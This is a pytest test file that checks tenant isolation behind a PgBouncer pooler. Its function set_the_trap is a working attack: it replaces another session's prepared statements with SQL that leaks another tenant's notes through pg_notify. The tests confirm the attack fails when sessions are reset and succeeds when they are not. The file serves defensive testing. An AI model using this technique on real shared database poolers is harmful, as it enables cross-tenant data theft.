"""A booby-trapped prepared statement: the exploit, and that nothing is left of it where sessions are reset.

Our own engines prepare nothing. The victim here is another service of the adopter's that does, as the same login.
"""

from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import Any

import psycopg
import pytest
from psycopg import sql

from cli.stack.postgres import EmbeddedPostgres
from db.roles import Role
from db.session import tenant_session
from tests.databases import Database, TestTenant
from tests.db.notes import create_notes, write_note
from tests.isolation.attacks.poolers import narrow_pooler
from tests.servers.pgbouncer import Pooler, programs

pytestmark = [pytest.mark.pgbouncer, pytest.mark.parametrize("program", programs())]

SECRET = "what only zeta may read"
ASK = "select count(*) from app.notes where length(body) > %s"


@pytest.fixture
def notes(database: Database, acme: TestTenant, zeta: TestTenant) -> Database:
    """The database with a note of zeta's."""
    create_notes(database)
    write_note(zeta, SECRET)
    return database


@contextmanager
def connection(pooler: Pooler, database: Database) -> Iterator[psycopg.Connection[Any]]:
    with psycopg.connect(pooler.url(database.url(Role.WORKER)), autocommit=True, prepare_threshold=0) as opened:
        yield opened


def ask_as(tenant: TestTenant, victim: psycopg.Connection[Any]) -> Any:
    with victim.transaction():
        victim.execute("select partywall.enter(%s)", (tenant.context.token,), prepare=False)
        return victim.execute(ASK, (1,), prepare=True).fetchone()


def set_the_trap(tenant: TestTenant, hostile: psycopg.Connection[Any]) -> int:
    """Put other texts under the names of all statements that are prepared on the session; return how many."""
    with hostile.transaction():
        hostile.execute("select partywall.enter(%s)", (tenant.context.token,), prepare=False)
        found = hostile.execute(
            "select name, array_to_string(parameter_types, ', ') from pg_prepared_statements where statement like %s",
            ("%length(body)%",),
            prepare=False,
        ).fetchall()
        for name, types in found:
            trap = sql.SQL(
                "prepare {} ({}) as with told as (select pg_notify('exfiltrated', (select max(body) from app.notes)))"
                " select count(*) from told, app.notes where length(body) > $1"
            ).format(sql.Identifier(name), sql.SQL(types))
            hostile.execute(sql.SQL("deallocate {}").format(sql.Identifier(name)), prepare=False)
            hostile.execute(trap, prepare=False)
    return len(found)


def overheard(pooler: Pooler, database: Database, acme: TestTenant, zeta: TestTenant) -> tuple[int, list[str]]:
    """Play it; return how many traps could be set and what the attacker heard."""
    with (
        psycopg.connect(database.url(Role.WORKER), autocommit=True) as ear,
        connection(pooler, database) as victim,
        connection(pooler, database) as hostile,
    ):
        ear.execute("listen exfiltrated")
        assert ask_as(zeta, victim) == (1,)
        traps = set_the_trap(acme, hostile)
        # PgBouncer before 1.21 does not know of prepared statements: the reset takes them from their owner, loudly.
        with suppress(psycopg.errors.InvalidSqlStatementName):
            ask_as(zeta, victim)
        return traps, [notification.payload for notification in ear.notifies(timeout=0.5)]


def test_a_trap_cannot_be_set_where_sessions_are_reset(
    program: str, postgres: EmbeddedPostgres, notes: Database, acme: TestTenant, zeta: TestTenant
) -> None:
    with narrow_pooler(postgres, program=program) as pooler:
        assert overheard(pooler, notes, acme, zeta) == (0, [])


def test_without_the_reset_the_trap_springs(
    program: str, postgres: EmbeddedPostgres, notes: Database, acme: TestTenant, zeta: TestTenant
) -> None:
    with narrow_pooler(postgres, program=program, server_reset_query_always=0) as pooler:
        assert overheard(pooler, notes, acme, zeta) == (1, [SECRET])


def test_our_own_engines_prepare_nothing(
    program: str,
    postgres: EmbeddedPostgres,
    notes: Database,
    zeta: TestTenant,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    with narrow_pooler(postgres, program=program, server_reset_query_always=0) as pooler:
        monkeypatch.setenv("PARTYWALL_WORKER_DATABASE_URL", pooler.url(notes.url(Role.WORKER)))
        for _ in range(10):
            with tenant_session(zeta.context, role=Role.WORKER) as session:
                prepared = session.connection().exec_driver_sql("select count(*) from pg_prepared_statements").scalar()

    assert prepared == 0
